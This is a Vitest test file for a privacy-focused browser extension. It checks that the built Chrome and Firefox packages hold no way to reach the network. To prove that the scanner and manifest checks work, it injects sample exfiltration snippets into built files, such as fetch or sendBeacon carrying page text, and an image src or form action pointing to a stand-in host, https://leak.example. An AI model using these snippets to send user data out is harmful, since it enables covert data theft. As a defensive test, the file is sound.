/** Nothing leaves the device: the policy, the permissions and the built files, each shown to catch a build that leaks. */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, test } from 'vitest';
import { built, variant } from './files.ts';
import { type BuiltManifest, manifestFaults, manifestOf, waysOut } from './ways-out.ts';

const scratch = mkdtempSync(join(tmpdir(), 'chalkline-privacy-'));
afterAll(() => rmSync(scratch, { recursive: true }));

let count = 0;
const scratchFolder = () => join(scratch, `build-${++count}`);

describe.each(['chrome', 'firefox'])('the build for %s', (browser) => {
  test('asks for no more than it promises', () => {
    expect(manifestFaults(manifestOf(built(browser)))).toEqual([]);
  });
  test('holds no way to the network', () => {
    expect(waysOut(built(browser))).toEqual([]);
  });
});

test.each<[string, (manifest: BuiltManifest) => void, string]>([
  [
    'a policy that lets connections through',
    (m) => {
      const pages = m.content_security_policy?.extension_pages ?? '';
      m.content_security_policy = {
        extension_pages: pages.replace("connect-src 'none'", 'connect-src https://leak.example'),
      };
    },
    'content security policy: connect-src is https://leak.example',
  ],
  [
    'no policy',
    (m) => delete m.content_security_policy,
    'content security policy: default-src is missing',
  ],
  [
    'another source of scripts',
    (m) => {
      const pages = m.content_security_policy?.extension_pages ?? '';
      m.content_security_policy = {
        extension_pages: pages.replace("script-src 'self'", "script-src 'self' 'wasm-unsafe-eval'"),
      };
    },
    "content security policy: script-src is 'self' 'wasm-unsafe-eval'",
  ],
  ['one more permission', (m) => m.permissions?.push('webRequest'), 'permission: webRequest'],
  [
    'hosts to talk to',
    (m) => {
      m.host_permissions = ['https://leak.example/*'];
    },
    'permission for https://leak.example/*',
  ],
  [
    'files that pages can read',
    (m) => {
      m.web_accessible_resources = [];
    },
    'web_accessible_resources is there',
  ],
  ['all sites', (m) => m.content_scripts?.[0]?.matches.push('<all_urls>'), 'runs at <all_urls>'],
])('a manifest with %s is caught', (_, change, fault) => {
  const folder = variant(built('chrome'), scratchFolder(), 'manifest.json', (text) => {
    const manifest = JSON.parse(text) as BuiltManifest;
    change(manifest);
    return JSON.stringify(manifest);
  });
  expect(manifestFaults(manifestOf(folder))).toContain(fault);
});

const content = 'extension/content/main.js';
const worker = 'service-worker-loader.js';

test.each<[string, string, string]>([
  [content, 'fetch("/x",{body:text})', 'fetch'],
  [content, 'globalThis["fetch"]("/x")', 'fetch by another name'],
  [worker, 'new XMLHttpRequest()', 'XMLHttpRequest'],
  [worker, 'new WebSocket(a)', 'WebSocket'],
  [worker, 'new WebTransport(a)', 'WebTransport'],
  [content, 'new EventSource(a)', 'EventSource'],
  [content, 'navigator.sendBeacon(a,text)', 'sendBeacon'],
  [content, 'new RTCPeerConnection({})', 'RTCPeerConnection'],
  [content, '(new Image).src=a', 'new Image'],
  [worker, 'importScripts(a)', 'importScripts'],
  [worker, 'import"//leak.example/x.js"', 'import of an address'],
  [content, 'eval(a)', 'eval'],
  [content, 'new Function("return 1")', 'Function'],
  [content, 'window.open(a)', 'window.open'],
  [worker, 'chrome.runtime.connectNative(a)', 'native messaging'],
  [worker, 'chrome.runtime.setUninstallURL(a)', 'an address after removal'],
  [worker, 'chrome.storage.sync.set({text})', 'synchronised storage'],
  [content, 'document.createElement("link").rel="dns-prefetch"', 'a name looked up'],
  [content, 'img.src="https://leak.example/?"+text', 'https://leak.example/?'],
  ['extension/popup/popup.html', '<form action="https://leak.example/">', 'https://leak.example/'],
  [
    'extension/content/marks.css',
    'p{background:url(//leak.example/x)}',
    'a style or font of elsewhere',
  ],
])('in %s, %s is caught', (file, code, fault) => {
  const folder = variant(built('chrome'), scratchFolder(), file, (text) => `${text}\n${code}`);
  expect(waysOut(folder)).toContain(`${file}: ${fault}`);
});
